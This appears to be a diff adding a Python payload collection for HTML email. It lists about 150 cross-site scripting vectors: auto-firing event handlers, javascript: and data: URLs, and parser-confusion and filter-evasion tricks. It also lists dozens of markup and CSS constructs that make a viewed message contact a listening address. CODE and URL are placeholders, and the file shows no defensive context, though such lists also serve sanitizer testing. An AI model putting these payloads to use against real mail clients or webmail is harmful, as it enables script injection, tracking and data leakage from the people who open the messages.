@@ -1,0 +1,61 @@
+"""HTML that would act where mail is shown: CODE stands for a script without quotes, URL for the address of somebody who listens."""
+
+# Elements that do something by themselves, and the event that they do it with.
+EVENTS = [("img src=xx:x", "error"), ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "load"), ("image src=xx:x", "error"), ("svg", "load"), ("body", "load"),
+          ("body", "pageshow"), ("iframe", "load"), ("iframe src=about:blank", "load"), ("frameset", "load"), ("object data=xx:x", "error"), ("embed src=xx:x", "error"),
+          ("embed src=data:text/plain,x", "load"), ("video src=xx:x", "error"), ("video src=data:video/mp4,x", "loadstart"), ("audio src=xx:x", "error"), ("audio src=data:audio/wav,x", "emptied"),
+          ("video autoplay src=xx:x", "suspend"), ("input autofocus", "focus"), ("input type=image src=xx:x", "error"), ("select autofocus", "focus"), ("textarea autofocus", "focus"),
+          ("button autofocus", "focus"), ("a href=x autofocus", "focus"), ("p contenteditable autofocus", "focus"), ("x-y tabindex=0 autofocus", "focus"), ("details open", "toggle"),
+          ("style", "load"), ("link rel=stylesheet href=data:text/css,", "load"), ("link rel=stylesheet href=xx:x", "error"), ("script src=xx:x", "error"), ("script src=data:,1", "load"),
+          ("marquee", "start"), ("svg><animate attributeName=x dur=1s", "begin"), ("svg><set attributeName=x", "begin"), ("svg><animateTransform attributeName=x dur=1s", "begin"),
+          ("svg><image href=xx:x", "error"), ("svg><script href=data:,1", "load"), ("math tabindex=0 autofocus", "focus"), ("picture><source srcset=xx:x><img src=xx:x", "error"),
+          ("track src=xx:x", "error"), ("body background=xx:x", "focus"), ("meta", "load"), ("dialog open", "toggle"), ("div style=animation:x><style>@keyframes x{}</style><p style='animation:x 1s'", "animationstart"),
+          ("style>@keyframes y{from{color:red}}*{animation:y 1s}</style><p", "animationend"), ("style>p{transition:color 1s}p:target{color:red}</style><p id=x", "transitionrun"), ("portal src=xx:x", "load"),
+          ("p onclick=1 accesskey=x autofocus tabindex=1", "focusin"), ("video controls><source src=xx:x", "error"), ("body style=height:9999px", "scroll")]
+SCRIPTS = [f'<{element} on{event}="CODE">' for element, event in EVENTS]
+# The same in clothes that a filter may not know.
+SCRIPTS += ["<script>CODE</script>", "<SCRIPT>CODE</SCRIPT>", "<script\n>CODE</script\n>", "<script/x>CODE</script/x>", "<script type=module>CODE</script>", "<script type=text/javascript>CODE</script>",
+            "<script language=javascript>CODE</script>", "<script src=\"data:text/javascript,CODE\"></script>", "<script async src=\"data:,CODE\"></script>", "<script nonce=x>CODE</script>",
+            "<script type=module src=\"data:text/javascript,CODE\"></script>", "<script type=importmap>{\"imports\":{\"x\":\"data:text/javascript,CODE\"}}</script><script type=module>import 'x'</script>",
+            "<svg><script>CODE</script></svg>", "<svg><script href=\"data:,CODE\"/></svg>", "<svg><script>&#67;ODE</script><script>CODE</script></svg>", "<math><mtext></mtext><script>CODE</script></math>",
+            "<svg><style><img src=xx:x onerror=\"CODE\"></style></svg>", "<math><style><img src=xx:x onerror=\"CODE\"></style></math>", "<svg></p><style><a id=\"</style><img src=xx:x onerror=CODE>\">",
+            "<form><math><mtext></form><form><mglyph><style></math><img src=xx:x onerror=CODE>", "<svg><foreignObject><body onload=\"CODE\"></foreignObject></svg>",
+            "</script><script>CODE</script>", "--><script>CODE</script>", "</title></style><script>CODE</script>", "</textarea></noscript></template><script>CODE</script>", "<noscript><p title=\"</noscript><script>CODE</script>\">",
+            "<noembed><p title=\"</noembed><script>CODE</script>\">", "<xmp><p title=\"</xmp><script>CODE</script>\">", "<title><p title=\"</title><script>CODE</script>\">", "<!--><script>CODE</script>-->",
+            "<!--a--!><script>CODE</script>-->", "<![CDATA[><script>CODE</script>]]>", "<?xml ?><script>CODE</script>", "<!doctype html><script>CODE</script><!doctype html>", "<!doctype x [<script>CODE</script>]>",
+            "<template shadowrootmode=open><script>CODE</script></template>", "<div><template shadowrootmode=open><img src=xx:x onerror=\"CODE\"></template></div>", "<plaintext></plaintext><script>CODE</script>",
+            "<iframe srcdoc=\"<script>CODE</script>\"></iframe>", "<iframe srcdoc=\"<img src=xx:x onerror=CODE>\"></iframe>", "<iframe srcdoc=\"&lt;script&gt;CODE&lt;/script&gt;\"></iframe>",
+            "<iframe src=\"javascript:CODE\"></iframe>", "<IFRAME SRC=\"java\nscript:CODE\"></IFRAME>", "<iframe/src=\"data:text/html,<script>CODE</script>\"></iframe>", "<iframe\x0csrc=\"javascript:CODE\"></iframe>",
+            "<object data=\"data:text/html,<script>CODE</script>\"></object>", "<object data=\"javascript:CODE\"></object>", "<embed src=\"data:text/html,<script>CODE</script>\">", "<embed src=\"javascript:CODE\">",
+            "<object type=text/html data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CODE'/>\"></object>", "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CODE'/>\">",
+            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CODE'/>\">", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='xx:x' onerror='CODE'/></svg>#x\"/></svg>",
+            "<frameset><frame src=\"javascript:CODE\"></frameset>", "<meta http-equiv=refresh content=\"0;url=javascript:CODE\">", "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>CODE</script>\">",
+            "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline' data:\"><script>CODE</script>", "<meta charset=utf-7>+ADw-script+AD4-CODE+ADw-/script+AD4-",
+            "<base href=\"javascript:/CODE//\"><a href=\"x\" autofocus onfocus=click()>x</a>", "<a id=x href=\"javascript:CODE\">x</a><script>x.click()</script>", "<form action=\"javascript:CODE\"><input autofocus onfocus=form.submit()></form>",
+            "<form id=f></form><button form=f formaction=\"javascript:CODE\" autofocus onfocus=click()>x</button>", "<svg><a><set attributeName=href to=\"javascript:CODE\"/><text y=9 tabindex=0 autofocus onfocus=parentNode.click()>x</text></a></svg>",
+            "<math href=\"javascript:CODE\" tabindex=0 autofocus onfocus=click()>x</math>", "<div style=\"background:url(javascript:CODE)\">x</div>", "<style>@import 'javascript:CODE'</style>", "<p style=\"width:expression(CODE)\">x</p>",
+            "<link rel=stylesheet href=\"javascript:CODE\">", "<link rel=import href=\"data:text/html,<script>CODE</script>\">", "<table background=\"javascript:CODE\"><tr><td>x</table>", "<x onfocus=\"CODE\" tabindex=1 autofocus>", "<img/src=xx:x/onerror=\"CODE\">",
+            "<img src=xx:x onerror = CODE>", "<img \n\nsrc=xx:x\nonerror\n=\nCODE>", "<img src=xx:x oNeRrOr=\"CODE\">", "<<img src=xx:x onerror=\"CODE\">", "<img src=\"xx:x\"onerror=\"CODE\">", "<img title='x>' src=xx:x onerror=\"CODE\">",
+            "<p title=\"<img src=xx:x onerror=CODE>\">x</p></p title><img src=xx:x onerror=\"CODE\">", "<a href=\"javascript&colon;CODE\" autofocus onfocus=click()>x</a>", "<isindex type=image src=xx:x onerror=\"CODE\">",
+            "<applet code=x><param name=x><script>CODE</script></applet>", "<body><head><script>CODE</script>", "<html onmouseover=1 onload=\"CODE\"><body onload=\"CODE\">", "<dialog open><form method=dialog><input autofocus onfocus=\"CODE\"></form></dialog>"]
+
+CALLS = ["<img src=\"URL\">", "<link rel=stylesheet href=\"URL\">", "<style>@import url(URL);</style>", "<style>body{background:url(URL)}</style>", "<iframe src=\"URL\"></iframe>",
+         "<meta http-equiv=refresh content=\"0;url=URL\">", "<video src=\"URL\" autoplay></video>", "<form action=\"URL\"><input name=a></form><script>document.forms[0].submit()</script>",
+         "<link rel=prefetch href=\"URL\">", "<link rel=preconnect href=\"URL\">", "<object data=\"URL\"></object>", "<base href=\"URL\"><input type=image src=x>", "<img srcset=\"URL 1x\">",
+         "<svg><image href=\"URL\"/></svg>", "<table background=\"URL\"><tr><td>x</td></tr></table>", "<link rel=icon href=\"URL\">", "<link rel=manifest href=\"URL\">",
+         "<style>@font-face{font-family:f;src:url(URL)}*{font-family:f}</style><p>x</p>", "<embed src=\"URL\">", "<audio src=\"URL\" autoplay></audio>",
+         "<frameset><frame src=\"URL\"></frameset>", "<iframe srcdoc=\"<link rel=preconnect href='URL'>\"></iframe>", "<LINK\n rel=preconnect href=\"URL\">", "<link/rel=preconnect href=\"URL\">",
+         "<svg><foreignObject><iframe src=\"URL\"></iframe></foreignObject></svg>", "<link rel=dns-prefetch href=\"URL\"><link rel=modulepreload href=\"URL\">",
+         "<script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"URL\"]}]}</script>", "<link rel=prerender href=\"URL\">", "<link rel=preload as=image href=\"URL\">",
+         "<picture><source srcset=\"URL\"><img src=x></picture>", "<video poster=\"URL\"></video>", "<video><track default src=\"URL\"></video>", "<body background=\"URL\">", "<input type=image src=\"URL\">",
+         "<style>li{list-style:url(URL)}</style><ul><li>x</ul>", "<p style=\"background-image:image-set('URL' 1x)\">x</p>", "<p style=\"border-image:url(URL) 1\">x</p>", "<style>p::before{content:url(URL)}</style><p>x",
+         "<p style=\"cursor:url(URL),auto;mask:url(URL);filter:url(URL#f);clip-path:url(URL#c)\">x</p>", "<svg><use href=\"URL#x\"/></svg>", "<svg><filter id=f><feImage href=\"URL\"/></filter><rect filter=url(#f) width=9 height=9 /></svg>",
+         "<svg><rect style=\"fill:url(URL#x)\" width=9 height=9 /></svg>", "<svg><script href=\"URL\"/></svg>", "<script src=\"URL\"></script>", "<script type=module src=\"URL\"></script>", "<script>navigator.sendBeacon('URL')</script>",
+         "<script>new WebSocket('URL'.replace('http','ws'))</script>", "<script>open('URL')</script>", "<script>top.location='URL'</script>", "<img src=x onerror=\"fetch('URL')\">", "<bgsound src=\"URL\">", "<image src=\"URL\">", "<img lowsrc=\"URL\" dynsrc=\"URL\">",
+         "<applet codebase=\"URL\" archive=\"URL\"></applet>", "<portal src=\"URL\"></portal>", "<fencedframe src=\"URL\"></fencedframe>", "<object><param name=movie value=\"URL\"><embed src=\"URL\"></object>", "<html manifest=\"URL\">",
+         "<meta http-equiv=Link content=\"<URL>; rel=preload; as=image\">", "<math><annotation-xml encoding=text/html><img src=\"URL\"></annotation-xml></math>", "<style>@namespace x url(URL);@import 'URL';@import url(\"URL\") layer(x);</style>",
+         "<template shadowrootmode=open><img src=\"URL\"></template>", "<a href=\"x\" ping=\"URL\" autofocus onfocus=click()>x</a>", "<img src=\"URL\" loading=eager fetchpriority=high crossorigin referrerpolicy=unsafe-url>",
+         "<meta http-equiv=Content-Security-Policy-Report-Only content=\"default-src 'none'; report-uri URL\"><img src=data:x,>", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri URL\"><img src=data:x,>"]
+# What HTML takes for the end of a comment or for a blank is not what a quick look takes for it.
+CALLS += [before + "<img src=\"URL\">" + after for before, after in (("<!-->", "--><!doctype html>"), ("<!--->", "--><!doctype html>"), ("<!--a--!>", "--><!doctype html>"),
+                                                                   ("\u00a0<!doctype html>", ""), ("<!doctype html <p>", "<!doctype html>"), ("<!doctype", ">"))]
